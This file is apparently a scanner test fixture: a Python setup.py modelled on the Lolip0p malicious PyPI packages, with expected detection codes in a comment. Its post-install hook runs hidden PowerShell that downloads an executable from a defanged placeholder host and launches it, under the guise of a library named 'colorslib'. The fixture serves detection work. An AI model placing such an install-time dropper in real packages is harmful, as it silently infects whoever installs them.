# Shape of the Lolip0p packages (Fortinet, Jan 2023): setup.py starts a
# hidden PowerShell that downloads an executable and runs it.
# Defanged: example.invalid.
from setuptools import setup
from setuptools.command.install import install
import subprocess


class PostInstall(install):
    def run(self):
        install.run(self)
        subprocess.Popen(  # expect: HS110 high, HS113 critical
            'powershell -WindowStyle Hidden -Command "Invoke-WebRequest -Uri '
            "'https://dl.example.invalid/s/0zu9slenf3cjeu3/Oxzy.exe?dl=1' -OutFile "
            "$env:USERPROFILE\\WindowsCache.exe; Start-Process $env:USERPROFILE\\WindowsCache.exe\"",
            shell=True,
        )


setup(
    name="colorslib",
    version="4.6.11",
    packages=[],
    cmdclass={"install": PostInstall},
)
